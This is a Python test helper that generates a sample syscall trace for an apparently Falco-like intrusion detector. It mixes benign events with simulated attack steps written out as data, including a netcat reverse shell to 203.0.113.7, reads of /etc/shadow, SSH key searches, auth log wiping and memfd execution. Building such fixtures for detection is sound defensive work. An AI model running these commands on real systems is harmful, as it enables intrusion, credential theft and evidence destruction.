"""The bundled sample trace (falcoish/data/sample_trace.jsonl): a short story of a host
being attacked, among ordinary activity.  Regenerate with `python -m tests.sample_trace`."""

from __future__ import annotations

import json
from pathlib import Path

from .eventkit import BASE_TS, O_CLOEXEC, O_CREAT, O_TRUNC, O_WRONLY, exec_process, open_file, process, record

TARGET = Path(__file__).resolve().parent.parent / "falcoish" / "data" / "sample_trace.jsonl"
WEB = {"comm": "nginx", "exepath": "/usr/sbin/nginx", "pid": 300}


def build() -> list[dict]:
    story = [
        exec_process("ls", ["-la"]),                                             # benign
        open_file("/etc/passwd", O_CLOEXEC),                                     # benign
        exec_process("bash", ["-i"], container={"id": "3ad7b26ded6d", "name": "web-1"}),
        open_file("/etc/shadow", O_CLOEXEC, comm="python3"),                     # credential read
        exec_process("find", ["/", "-name", "id_rsa"]),                          # key search
        open_file("/usr/bin/ps", O_WRONLY | O_CREAT | O_TRUNC, comm="curl"),      # binary dir write
        open_file("/var/log/auth.log", O_WRONLY | O_TRUNC, comm="sh"),           # log cleared
        exec_process("nc", ["-e", "/bin/sh", "203.0.113.7", "4444"], ancestors=[WEB]),
        exec_process("x", proc={"exepath": "/dev/shm/x", "cwd": "/dev/shm/"}),    # run from /dev/shm
        exec_process("memfd:payload", proc={"exepath": "/memfd:payload (deleted)", "exe_from_memfd": True}),
        record("ptrace", thread=process("sample"), args={"request": 0, "pid": 0}, res=0),
        open_file("/usr/bin/ps", O_WRONLY | O_CREAT | O_TRUNC, comm="dpkg"),      # benign: package manager
        exec_process("grep", ["-r", "TODO", "."]),                               # benign
    ]
    for i, rec in enumerate(story, 1):
        rec["num"] = i
        rec["ts"] = BASE_TS + i * 1_000_000
    return story


def text() -> str:
    return "".join(json.dumps(r, separators=(",", ":")) + "\n" for r in build())


if __name__ == "__main__":
    TARGET.write_text(text())
    print(f"wrote {TARGET}")
